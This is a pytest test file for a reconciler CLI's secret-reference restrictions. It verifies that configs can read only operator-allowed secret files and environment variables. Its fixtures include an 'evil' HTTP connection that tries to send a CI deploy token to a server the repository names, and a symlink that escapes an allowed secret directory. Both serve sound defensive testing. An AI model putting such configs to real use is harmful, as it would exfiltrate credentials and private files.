"""Secret references read only where the operator allows (--secret-dir,
--secret-env; defaults /run/secrets, /run/credentials, /var/run/secrets and
RECONCILER_SECRET_*): a commit cannot read any file or variable of the process
into a managed object, nor send it to a server it names — through the real CLI.
"""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import Sandbox, doc, docs

pytestmark = pytest.mark.timeout(60)


@pytest.fixture
def strict(monkeypatch: pytest.MonkeyPatch) -> None:
    """The CLI's own defaults: the tests' allow-everything removed."""
    monkeypatch.delenv("RECONCILER_SECRET_DIRS", raising=False)
    monkeypatch.delenv("RECONCILER_SECRET_ENV", raising=False)


def _file(sandbox: Sandbox, ref: dict[str, str]) -> None:
    content = {"valueFrom": ref}
    sandbox.write(
        "s.yaml", docs(doc("File", "s", {"path": str(sandbox.root / "s"), "content": content}))
    )


def test_a_file_outside_the_secret_directories_is_refused(
    sandbox: Sandbox, strict: None, tmp_path: Path
) -> None:
    secret = tmp_path / "keys" / "db"
    secret.parent.mkdir()
    secret.write_text("hunter2-the-password\n")
    _file(sandbox, {"file": str(secret)})
    result = sandbox.run("validate", check=1)
    assert "s.yaml:" in result.stderr and "content.valueFrom.file" in result.stderr
    assert "outside the secret directories the operator allows" in result.stderr
    assert "/run/secrets" in result.stderr and "--secret-dir" in result.stderr
    sandbox.run("apply", check=1)
    assert not (sandbox.root / "s").exists()
    sandbox.run("validate", "--secret-dir", str(secret.parent), check=0)
    sandbox.run("apply", "--secret-dir", str(secret.parent), check=0)
    assert (sandbox.root / "s").read_text() == "hunter2-the-password\n"


def test_a_link_out_of_a_secret_directory_is_refused(
    sandbox: Sandbox, strict: None, tmp_path: Path
) -> None:
    allowed = tmp_path / "secrets"
    allowed.mkdir()
    outside = tmp_path / "private"
    outside.write_text("not for the repository\n")
    (allowed / "db").symlink_to(outside)  # inside by name, outside by content
    (allowed / "ok").write_text("fine\n")
    _file(sandbox, {"file": str(allowed / "db")})
    result = sandbox.run("validate", "--secret-dir", str(allowed), check=1)
    assert "outside the secret directories" in result.stderr
    assert "not for the repository" not in result.stdout + result.stderr
    _file(sandbox, {"file": str(allowed / "ok")})
    sandbox.run("validate", "--secret-dir", str(allowed), check=0)


def test_variables_only_by_the_allowed_patterns(
    sandbox: Sandbox, strict: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CI_DEPLOY_TOKEN", "ci-token-value-1234")
    monkeypatch.setenv("RECONCILER_SECRET_APP", "app-secret-value")
    _file(sandbox, {"env": "CI_DEPLOY_TOKEN"})
    result = sandbox.run("plan", check=1)
    assert "environment variable CI_DEPLOY_TOKEN is not one the operator allows" in result.stderr
    assert "RECONCILER_SECRET_*" in result.stderr
    assert "ci-token-value" not in result.stdout + result.stderr
    sandbox.run("plan", "--secret-env", "CI_*", check=2)
    _file(sandbox, {"env": "RECONCILER_SECRET_APP"})  # the default pattern
    sandbox.run("plan", check=2)


def test_plan_sends_no_secret_to_a_server_the_repository_names(
    sandbox: Sandbox, strict: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A branch planned in CI names a server of its own and a variable of the job:
    the load refuses the reference, so no request ever leaves."""
    monkeypatch.setenv("CI_DEPLOY_TOKEN", "ci-token-value-1234")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.settimeout(0.5)
        port = listener.getsockname()[1]
        sandbox.write(
            "c.yaml",
            docs(
                doc(
                    "Connection",
                    "evil",
                    {
                        "type": "http",
                        "baseUrl": f"http://127.0.0.1:{port}",
                        "headers": {"X-Token": {"valueFrom": {"env": "CI_DEPLOY_TOKEN"}}},
                    },
                ),
                doc("HttpObject", "x", {"connection": "evil", "url": "/x", "body": {"a": 1}}),
            ),
        )
        result = sandbox.run("plan", check=1)
        assert "CI_DEPLOY_TOKEN is not one the operator allows" in result.stderr
        with pytest.raises(TimeoutError):
            listener.accept()  # nobody called


def test_the_daemon_takes_the_same_options() -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("RECONCILER_")}
    result = subprocess.run(
        [sys.executable, "-m", "reconciler", "run", "--help"],
        capture_output=True,
        text=True,
        timeout=30,
        env=env,
    )
    assert "--secret-dir" in result.stdout and "--secret-env" in result.stdout
